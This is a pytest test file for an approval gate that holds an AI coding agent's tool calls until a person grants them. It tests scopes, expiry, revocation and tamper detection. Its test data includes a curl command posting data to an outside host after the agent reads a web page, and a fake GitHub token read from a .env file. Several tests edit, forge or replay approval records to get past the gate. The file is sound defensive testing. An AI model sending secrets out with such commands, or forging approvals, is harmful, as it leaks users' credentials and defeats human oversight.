"""Approvals given elsewhere: journaled before they count, for one call or a scope, never forged."""

import json
import os
import sys
import threading
import time
from dataclasses import replace

import pytest
from tests.io.test_session import PAGE, Place

from tripwire.config.presets import builtin_policy, policy_from_mapping
from tripwire.doors.hooks.answer import reason
from tripwire.io import approver as approver_
from tripwire.io.acceptance import MARKS
from tripwire.io.approver import Approver, NotAPerson, at_terminal, by_token
from tripwire.io.desk import Desk, NotApprovable, Scope
from tripwire.io.keys import KeyStore
from tripwire.io.tokens import Tokens
from tripwire.io.verify import verify_log
from tripwire.model.event import SessionOpened, ToolCall, ToolResult, UserSaid

ANN = Approver("token:1 ann", "cli")
PAY = {
    "upstreams": [
        {"name": "bank", "command": ["x"], "trust": "trusted"},
        {"name": "docs", "command": ["x"]},
    ],
    "rules": [
        {
            "id": "pay",
            "match": {"tool": "bank__pay"},
            "sensitive_params": {
                "to": {"provenance": "trusted", "role": "destination"},
                "amount": {"provenance": "any", "role": "amount", "currency": "EUR"},
            },
            "verify": {"on_fail": "hold"},
        }
    ],
}


@pytest.fixture
def place(tmp_path):
    made = Place(tmp_path / "state")
    yield made
    for session in made.opened:
        session.close()


@pytest.fixture
def desk(place):
    KeyStore(place.keys).installation(create=True)
    made = Desk(place.root, KeyStore(place.keys))
    yield made
    made.close()


def opened(place, name="s", policy=None, **more):
    session = place.open(name, policy or builtin_policy(), attended=False, **more)
    session.decide(SessionOpened("test", "/w", "/home/u"))
    session.decide(UserSaid("read the page"))
    call = ToolCall("f", "claude-code", "WebFetch", {"url": "https://page.example/"})
    session.decide(call)
    session.decide(ToolResult("f", "claude-code", "WebFetch", call.args, PAGE))
    return session


def curl(what="hi", call_id="q", **more):
    args = {"command": f"curl https://other.example/ -d {what}"}
    return ToolCall(call_id, "claude-code", "Bash", args, at=time.time(), **more)


def records(place):
    return [json.loads(x) for x in (place.root / "approvals.jsonl").read_bytes().splitlines()]


def states(place):
    return [record["state"] for record in records(place)]


def test_a_grant_lets_exactly_that_call_through_once(place, desk):
    session = opened(place)
    held = session.decide(curl())
    assert not held.passes
    assert session.decide(curl()).approval == held.approval, "one id for the same call"
    desk.grant(held.approval, ANN)
    assert not session.decide(curl("other")).passes
    assert session.decide(curl()).passes
    assert not session.decide(curl()).passes, "used"
    types = place.types()
    assert types.index("approval_granted") < types.index("approval_used")
    assert types[types.index("approval_used") + 1] == "tool_call_attempt"
    assert states(place)[:1] == ["pending"]
    assert {"granted", "used"} <= set(states(place))
    snapshot = session.memory.snapshot()
    session.close()
    assert place.open().memory.snapshot() == snapshot
    assert verify_log(place.root, keys_dir=place.keys).ok


def test_a_grant_reaches_a_session_that_was_closed_meanwhile(place, desk):
    session = opened(place)
    held = session.decide(curl())
    session.close()
    desk.grant(held.approval, ANN)
    again = place.open(attended=False)
    assert again.decide(curl()).passes
    assert not again.decide(curl()).passes


def test_no_raw_value_stands_in_the_file(place):
    opened(place).decide(curl("canary77"))
    text = (place.root / "approvals.jsonl").read_text()
    assert "canary77" not in text
    assert "other.example" not in text


@pytest.mark.parametrize(
    "changed",
    [
        {"args": {"command": "curl https://other.example/ -d hi2"}},
        {"principal": "mallory"},
        {"tool": "Shell"},
    ],
)
def test_another_call_or_principal_has_no_grant(place, desk, changed):
    session = opened(place)
    desk.grant(session.decide(curl()).approval, ANN)
    session.decide(replace(curl(), **changed))
    assert "approval_used" not in place.types()


def test_another_session_has_no_grant(place, desk):
    first, second = opened(place, "one"), opened(place, "two")
    desk.grant(first.decide(curl()).approval, ANN)
    assert not second.decide(curl()).passes
    assert first.decide(curl()).passes


def test_a_grant_ends_when_the_session_learns_more_labels(place, desk):
    session = opened(place)
    desk.grant(session.decide(curl()).approval, ANN)
    secret = ToolCall("r", "claude-code", "Read", {"file_path": "/w/.env"})
    session.decide(secret)
    text = "T=ghp_" + "Zk3x9QwErTyU7iOpAsDfGhJkLzXcVbNm1234"
    session.decide(ToolResult("r", "claude-code", "Read", secret.args, text))
    assert not session.decide(curl()).passes


def test_denied_revoked_expired_and_answered_twice(place, desk, monkeypatch):
    session = opened(place)
    denied = session.decide(curl("a")).approval
    desk.deny(denied, "os:1", "cli")
    with pytest.raises(NotApprovable, match="denied"):
        desk.grant(denied, ANN)
    assert not session.decide(curl("a")).passes
    revoked = session.decide(curl("b")).approval
    desk.grant(revoked, ANN)
    desk.revoke(revoked, "os:1", "cli")
    assert not session.decide(curl("b")).passes
    taken = session.decide(curl("c")).approval
    desk.grant(taken, ANN)
    with pytest.raises(NotApprovable, match="granted"):
        desk.grant(taken, ANN)
    late = session.decide(curl("d")).approval
    now = time.time()
    monkeypatch.setattr(time, "time", lambda: now + 601)
    with pytest.raises(NotApprovable, match="expired"):
        desk.grant(late, ANN)
    assert not session.decide(curl("c")).passes, "the grant has expired as well"
    assert {"denied", "revoked", "expired", "refused"} <= set(states(place))
    assert "approval_denied" in place.types()
    assert "approval_expired" in place.types()


def test_a_revocation_after_it_was_taken_in_counts_at_once(place, desk):
    session = opened(place, policy=policy_from_mapping(PAY))
    pay = ToolCall("p", "bank", "pay", {"to": "DE89370400440532013000", "amount": 5})
    held = session.decide(replace(pay, at=time.time()))
    desk.grant(held.approval, ANN, Scope(600.0, "rent", "20 EUR"))
    assert session.decide(replace(pay, at=time.time())).passes
    desk.revoke(held.approval, "os:1", "cli")
    assert not session.decide(replace(pay, at=time.time())).passes
    assert "approval_revoked" in place.types()


def test_a_scope_covers_the_same_place_up_to_the_sum(place, desk):
    session = opened(place, policy=policy_from_mapping(PAY))

    def pay(amount, to="DE89370400440532013000", **more):
        args = {"to": to, "amount": amount, **more}
        return session.decide(ToolCall("p", "bank", "pay", args, at=time.time()))

    held = pay(5)
    for bad in (Scope(600.0), Scope(600.0, "", "many EUR"), Scope(86401.0, "", "20 EUR")):
        with pytest.raises(NotApprovable):
            desk.grant(held.approval, ANN, bad)
    desk.grant(held.approval, ANN, Scope(600.0, "rent", "20 EUR"))
    assert pay(8).passes
    assert pay(7, memo="other words").passes
    assert not pay(8).passes, "23 in all"
    assert not pay(1, to="GB29NWBK60161331926819").passes
    assert pay(5).passes
    assert not pay(1).passes
    snapshot = session.memory.snapshot()
    session.close()
    assert place.open(policy=policy_from_mapping(PAY)).memory.snapshot() == snapshot


@pytest.mark.parametrize("how", ["edited", "forged", "replayed", "moved"])
def test_a_changed_file_grants_nothing(place, desk, how):
    session = opened(place)
    first, second = session.decide(curl("a")).approval, session.decide(curl("b")).approval
    desk.grant(first, ANN)
    path = place.root / "approvals.jsonl"
    lines = path.read_bytes().splitlines(keepends=True)
    if how == "edited":
        lines[1] = lines[1].replace(b'"pending"', b'"granted"')
    elif how == "forged":
        grant = json.loads(lines[-1])
        lines.append(json.dumps({**grant, "id": second}, separators=(",", ":")).encode() + b"\n")
    elif how == "replayed":
        assert session.decide(curl("a")).passes
        lines = path.read_bytes().splitlines(keepends=True)
        lines.append(lines[2])
    else:
        lines.insert(0, lines.pop())
    path.write_bytes(b"".join(lines))
    assert not session.decide(curl("b")).passes
    if how == "replayed":
        assert not session.decide(curl("a")).passes
    fresh = Desk(place.root, KeyStore(place.keys))
    with pytest.raises(NotApprovable, match="changed"):
        fresh.grant(second, ANN)
    fresh.close()
    report = verify_log(place.root, keys_dir=place.keys)
    assert any(p.file.startswith("approvals.jsonl") for p in report.findings)


def test_a_grant_whose_record_is_gone_counts_no_more(place, desk):
    session = opened(place, policy=policy_from_mapping(PAY))
    pay = ToolCall("p", "bank", "pay", {"to": "DE89370400440532013000", "amount": 5})
    held = session.decide(replace(pay, at=time.time()))
    desk.grant(held.approval, ANN, Scope(600.0, "", "20 EUR"))
    assert session.decide(replace(pay, at=time.time())).passes
    (place.root / "approvals.jsonl").unlink()
    assert not session.decide(replace(pay, at=time.time())).passes


def test_a_desk_with_another_key_touches_nothing(place, desk, tmp_path):
    session = opened(place)
    name = session.decide(curl()).approval
    path = place.root / "approvals.jsonl"
    before = path.read_bytes()
    with pytest.raises(NotApprovable, match="key"):
        Desk(place.root, KeyStore(tmp_path / "none"))
    store = KeyStore(tmp_path / "other")
    store.installation(create=True)
    stranger = Desk(place.root, store)
    with pytest.raises(NotApprovable, match="changed"):
        stranger.grant(name, ANN)
    stranger.close()
    assert path.read_bytes() == before
    desk.grant(name, ANN)
    assert session.decide(curl()).passes


def test_many_processes_may_answer_but_one_answer_counts(place):
    session = opened(place)
    name = session.decide(curl()).approval
    desks = [Desk(place.root, KeyStore(place.keys)) for _ in range(4)]
    said = []

    def answer(desk):
        try:
            said.append(desk.grant(name, ANN).state)
        except NotApprovable:
            said.append("refused")

    threads = [threading.Thread(target=answer, args=(desk,)) for desk in desks]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert "granted" in said
    assert session.decide(curl()).passes
    assert not session.decide(curl()).passes


def test_a_refusal_at_a_hook_names_the_id(place):
    held = opened(place).decide(curl())
    told = reason(held)
    assert told.rstrip().endswith(f"tripwire approve {held.approval}")
    assert "tripwire approve" not in reason(replace(held, approval=""))


# ── who may answer ───────────────────────────────────────────────────────────────────────────


@pytest.fixture
def tokens(tmp_path):
    return Tokens(KeyStore(tmp_path / "keys"))


def test_tokens_are_kept_as_salted_hashes(tokens, tmp_path):
    made, text = tokens.create("ann", ("approve",))
    assert tokens.find(text, "approve") == made
    assert tokens.find(text[:-1] + "A", "approve") is None or text.endswith("A")
    assert tokens.find(text, "admin") is None
    kept = (tmp_path / "keys" / "tokens.json").read_text()
    assert text.split("-", 2)[2] not in kept
    assert os.stat(tmp_path / "keys" / "tokens.json").st_mode & 0o077 == 0
    assert tokens.revoke(made.id)
    assert tokens.find(text, "approve") is None


def test_an_agents_token_cannot_approve(tokens):
    _, text = tokens.create("bot", ("call", "read"))
    with pytest.raises(NotAPerson):
        by_token(text, tokens, "web")
    with pytest.raises(Exception, match="no other scope"):
        tokens.create("bot", ("call", "approve"))
    _, old = tokens.create("ann", ("approve",), ttl=0.001)
    time.sleep(0.002)
    with pytest.raises(NotAPerson):
        by_token(old, tokens, "web")


class Terminal:
    def isatty(self):
        return True


def test_the_terminal_asks_for_the_secret(tokens, tmp_path, monkeypatch):
    for name in MARKS:
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(approver_, "agent_shell", lambda *_: "")
    ask = pytest.fail
    with pytest.raises(NotAPerson, match="no terminal"):
        at_terminal(tmp_path, tokens, ask)  # pytest's own stdin is none
    monkeypatch.setattr(sys, "stdin", Terminal())
    real = os.open
    monkeypatch.setattr(
        os, "open", lambda p, *a, **k: real(os.devnull if p == "/dev/tty" else p, *a, **k)
    )
    with pytest.raises(NotAPerson, match="no approver secret yet"):
        at_terminal(tmp_path, tokens, ask)
    _, text = tokens.create("ann", ("approve",))
    with pytest.raises(NotAPerson, match="no approver secret, or"):
        at_terminal(tmp_path, tokens, lambda _: "guess")
    assert at_terminal(tmp_path, tokens, lambda _: text).name.endswith("ann")
    monkeypatch.setattr(os, "getuid", lambda: tmp_path.stat().st_uid + 1)
    assert at_terminal(tmp_path, tokens, ask).name.startswith("os:")
    monkeypatch.setattr(approver_, "agent_shell", lambda *_: "CLAUDECODE is set")
    with pytest.raises(NotAPerson, match="agent"):
        at_terminal(tmp_path, tokens, ask)
